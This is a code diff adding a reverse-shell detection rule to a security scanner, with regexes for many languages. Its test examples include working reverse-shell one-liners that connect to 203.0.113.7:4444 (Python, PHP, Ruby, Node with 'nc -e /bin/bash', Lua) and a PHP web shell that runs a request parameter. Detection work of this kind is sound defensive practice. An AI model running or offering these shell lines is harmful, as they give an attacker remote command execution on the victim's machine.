@@ -1,0 +1,73 @@
+import type { Rule } from '../../rule.js';
+
+export const rule: Rule = {
+  pattern: 'reverse_shell',
+  variant: 'code',
+  threat: 'INJECTION',
+  direction: 'inbound',
+  severity: 'critical',
+  confidence: 'high',
+  group: 'commands',
+  about: 'A few lines of a program that connect a socket to a shell, or run what a socket or request says.',
+  anatomy: 'in one language each: a socket, and then a shell, a redirected descriptor or a process fed from it',
+  source: 'https://www.revshells.com and https://attack.mitre.org/techniques/T1059/006/',
+  match: [
+    // Python: socket ... dup2 / pty.spawn / subprocess with a shell
+    {
+      re: /socket[^]*?(?:\.connect(?:_ex)?\(|\.bind\()[^]*?(?:dup2\(|pty\.spawn|(?:subprocess|sp)\.(?:call|Popen|run)\()/,
+      window: 700,
+    },
+    // Perl
+    { re: /use\s+(?:IO::)?Socket[^]*?exec\s*\(?\s*\{?["'`]?\s*(?:\/bin\/|cmd)/, window: 900 },
+    // PHP: a socket and a shell; a request parameter that is run
+    {
+      re: /(?:p?fsockopen|stream_socket_client|socket_create)\s*\([^]*?(?:shell_exec|proc_open|passthru|popen|system|exec)\s*\(/,
+      window: 2000,
+    },
+    { re: /(?:p?fsockopen|stream_socket_client)\s*\([^\n]*\)\s*;\s*`/ },
+    {
+      re: /(?:system|exec|shell_exec|passthru|popen|proc_open|assert|eval)\s*\(\s*(?:base64_decode\s*\(\s*)?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\s*\[/,
+    },
+    {
+      re: /=\s*\(?\s*\$_(?:GET|POST|REQUEST|COOKIE)\s*\[[^\]\n]+\]\s*\)?\s*;\s*(?:system|exec|shell_exec|passthru)\s*\(\s*\$\w/,
+    },
+    { re: /`\s*\$_(?:GET|POST|REQUEST)\s*\[/ },
+    // Ruby
+    { re: /TCPSocket\.(?:new|open)\s*\(?[^]*?(?:IO\.popen|exec|\/bin\/(?:ba)?sh|spawn)/, window: 400 },
+    // Lua
+    { re: /require\s*\(?["']socket["'][^]*?(?:os\.execute|io\.popen)\s*\(/, window: 500 },
+    // Node.js
+    { re: /(?:net\.(?:Socket|connect|createConnection)|new\s+net\.Socket)[^]*?\.pipe\(\s*\w+\.stdin/, window: 700 },
+    {
+      re: /child_process["'`]?\)[^]*?(?:exec|spawn)\w*\(\s*["'`](?:nc|ncat|\/bin\/(?:ba)?sh|cmd(?:\.exe)?)[ "'`]/,
+      window: 400,
+    },
+    // Java
+    { re: /getRuntime\(\)\s*\.\s*exec\s*\([^\n]*(?:\/bin\/(?:ba)?sh|bash\s+-c|cmd(?:\.exe)?\s)/ },
+    { re: /new\s+(?:java\.net\.)?Socket\s*\([^]*?(?:ProcessBuilder|\.exec\s*\()/, window: 1200 },
+    { re: /(?:ProcessBuilder|\.exec\s*\()[^]*?new\s+(?:java\.net\.)?Socket\s*\(/, window: 2000 },
+    // Go, C, C#, Crystal, Dart, V
+    { re: /net\.Dial\s*\([^]*?exec\.Command\s*\(\s*["'](?:\/bin\/|cmd|powershell|sh)/, window: 500 },
+    { re: /(?:connect|bind)\s*\([^]*?dup2\s*\([^]*?exec(?:ve|l|lp|vp|le)?\s*\(/, window: 900 },
+    { re: /os\.system\s*\(\s*["'](?:nc|ncat|bash|sh|\/bin\/)[^\n]*(?:-e\s|\/dev\/tcp)/ },
+    { re: /TCPClient\s*\([^]*?(?:GetStream|StreamWriter)[^]*?(?:iex|Invoke-Expression|Process)/i, window: 1200 },
+    { re: /TCPClient\s*\(["'\d][^]*?GetStream\s*\(\s*\)/i, window: 300 },
+    { re: /Socket\.(?:tcp|connect)\s*\([^]*?Process\.(?:new|start|run)\s*\(/, window: 700 },
+  ],
+  examples: {
+    fires: [
+      'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);\'',
+      'php -r \'$sock=fsockopen("203.0.113.7",4444);exec("/bin/bash <&3 >&3 2>&3");\'',
+      'ruby -rsocket -e\'c=TCPSocket.new("203.0.113.7","4444");IO.popen($_)\'',
+      "require('child_process').exec('nc -e /bin/bash 203.0.113.7 4444')",
+      "lua -e \"require('socket');t=socket.tcp();os.execute('/bin/bash -i');\"",
+      '<?php system($_GET["cmd"]); ?>',
+    ],
+    silent: [
+      'import socket\ns = socket.socket()\ns.connect(("example.com", 80))\nprint(s.recv(100))\n',
+      "const { exec } = require('child_process'); exec('git status')",
+      'Socket socket = new Socket("example.com", 80);',
+      'net.Dial("tcp", "golang.org:80")',
+    ],
+  },
+};
